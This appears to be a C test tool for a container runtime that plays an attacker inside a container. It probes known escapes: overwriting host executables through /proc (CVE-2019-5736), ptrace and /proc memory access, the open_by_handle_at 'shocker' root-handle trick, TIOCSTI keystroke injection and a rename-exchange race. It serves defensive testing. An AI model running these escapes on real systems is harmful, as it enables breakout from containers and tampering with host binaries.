/* Test tool: the attacker. In a container:
 *   attack watch SECONDS   on every process that comes by: take its executable and write to it
 *                          (CVE-2019-5736), its fds, its memory, ptrace (CVE-2016-9962)
 *   attack look PID        the same, once, on one process
 *   attack shocker FILE    the root directory of the file system that FILE lies on, by a handle
 *   attack tiocsti TEXT    types TEXT into the terminal on standard input
 * On the host, in the place of an attacker who shares the files, or of the one attacked:
 *   attack race A B SECONDS   exchanges two names without end
 *   attack onpty COMMAND...   runs it on a terminal of its own, then shows what was typed there */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { PIDS_MAX = 1 << 16, HELD_MAX = 64 };

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int open_of(int pid, const char *what, int flags)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	return open(path, flags | O_CLOEXEC);
}

/* ---- other processes ---- */

static bool seen[PIDS_MAX];	/* were here before, or have been looked at */
static int held[HELD_MAX], held_count; /* executables that are not our own, each once */
static int exes, written, fds, memories, traced;

static bool is_new(int fd)
{
	struct stat have, other;

	if (fstat(fd, &other) < 0 || stat("/proc/self/exe", &have) < 0)
		return false;
	for (int i = 0; have.st_dev != other.st_dev || have.st_ino != other.st_ino; i++)
		if (i == held_count || fstat(held[i], &have) < 0)
			return true;
	return false;
}

static void hold_exe(int pid)
{
	int fd = open_of(pid, "exe", O_RDONLY);

	if (fd < 0)
		return;
	if (held_count < HELD_MAX && is_new(fd)) {
		exes++;
		held[held_count++] = fd;
		return;
	}
	close(fd);
}

/* ETXTBSY while it runs, so it is tried again and again. */
static void write_held(void)
{
	for (int i = 0; i < held_count; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "#!/owned\n", 9) == 9)
			written++;
		close(fd);
	}
}

static void take(int pid)
{
	int fd;

	hold_exe(pid);
	for (int i = 0; i < 32 && !fds; i++) {
		char name[32];

		snprintf(name, sizeof(name), "fd/%d", i);
		if ((fd = open_of(pid, name, O_PATH)) >= 0) {
			fds = 1;
			close(fd);
		}
	}
	if ((fd = open_of(pid, "mem", O_RDWR)) >= 0) {
		memories++;
		close(fd);
	}
	if (!ptrace(PTRACE_SEIZE, pid, NULL, NULL)) {
		traced++;
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

static void each_process(void (*run)(int pid))
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;

	while (dir && (entry = readdir(dir))) {
		int pid = atoi(entry->d_name);

		if (pid > 0 && pid < PIDS_MAX && !seen[pid] && pid != getpid())
			run(pid);
	}
	if (dir)
		closedir(dir);
}

static void mark(int pid)
{
	seen[pid] = true;
}

static int report(void)
{
	printf("exe %d written %d fd %d mem %d ptrace %d\n", exes, written, fds, memories, traced);
	fflush(stdout);
	return 0;
}

static int watch(double seconds)
{
	double end = now() + seconds;

	each_process(mark);
	puts("watching");
	fflush(stdout);
	while (now() < end) {
		each_process(hold_exe);
		write_held();
	}
	return report();
}

static int look(int pid)
{
	take(pid);
	write_held();
	return report();
}

/* ---- handles ---- */

/* ext4's: type 1, inode and generation; the root is inode 2. */
static int shocker(const char *file)
{
	struct {
		unsigned int bytes;
		int type;
		unsigned int inode, generation;
	} handle = { 8, 1, 2, 0 };
	int mount = open(file, O_RDONLY | O_CLOEXEC), fd;
	DIR *dir;

	fd = (int)syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
	if (fd < 0) {
		printf("shocker: %s\n", strerror(errno));
		return 1;
	}
	dir = fdopendir(fd);
	for (struct dirent *entry; dir && (entry = readdir(dir));)
		printf("shocker sees %s\n", entry->d_name);
	return 0;
}

/* ---- terminals ---- */

static int tiocsti(const char *text)
{
	for (const char *p = text; *p; p++) {
		if (ioctl(0, TIOCSTI, p) < 0) {
			printf("tiocsti: %s\n", strerror(errno));
			return 1;
		}
	}
	puts("tiocsti: ok");
	return 0;
}

static void run_on(int master, char **argv)
{
	int terminal;

	setsid();
	terminal = open(ptsname(master), O_RDWR);
	ioctl(terminal, TIOCSCTTY, 0);
	for (int fd = 0; fd < 3; fd++)
		dup2(terminal, fd);
	close(terminal);
	execvp(argv[0], argv);
	_exit(127);
}

static int onpty(char **argv)
{
	int master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC), terminal;
	struct pollfd p = { .fd = master, .events = POLLIN };
	char text[512];
	ssize_t n;
	pid_t pid;

	if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
		return 1;
	terminal = open(ptsname(master), O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
	pid = fork();
	if (pid == 0)
		run_on(master, argv);
	while (waitpid(pid, NULL, WNOHANG) == 0 || poll(&p, 1, 100) > 0)
		if (poll(&p, 1, 100) > 0 && (n = read(master, text, sizeof(text))) > 0)
			(void)!write(1, text, (size_t)n);
	n = read(terminal, text, sizeof(text) - 1);
	text[n > 0 ? n : 0] = '\0';
	printf("\ntyped: %s\n", text);
	return 0;
}

/* ---- names ---- */

static int race(const char *a, const char *b, double seconds)
{
	double end = now() + seconds;
	long count = 0;

	for (; now() < end; count++)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
			perror("attack: race");
			return 1;
		}
	printf("raced %s\n", count > 100 ? "often" : "seldom");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "watch"))
		return watch(atof(argv[2]));
	if (argc == 3 && !strcmp(argv[1], "look"))
		return look(atoi(argv[2]));
	if (argc == 3 && !strcmp(argv[1], "shocker"))
		return shocker(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "tiocsti"))
		return tiocsti(argv[2]);
	if (argc > 2 && !strcmp(argv[1], "onpty"))
		return onpty(argv + 2);
	if (argc == 5 && !strcmp(argv[1], "race"))
		return race(argv[2], argv[3], atof(argv[4]));
	fprintf(stderr, "usage: attack watch SECONDS | look PID | shocker FILE | tiocsti TEXT | "
			"race A B SECONDS | onpty COMMAND...\n");
	return 2;
}
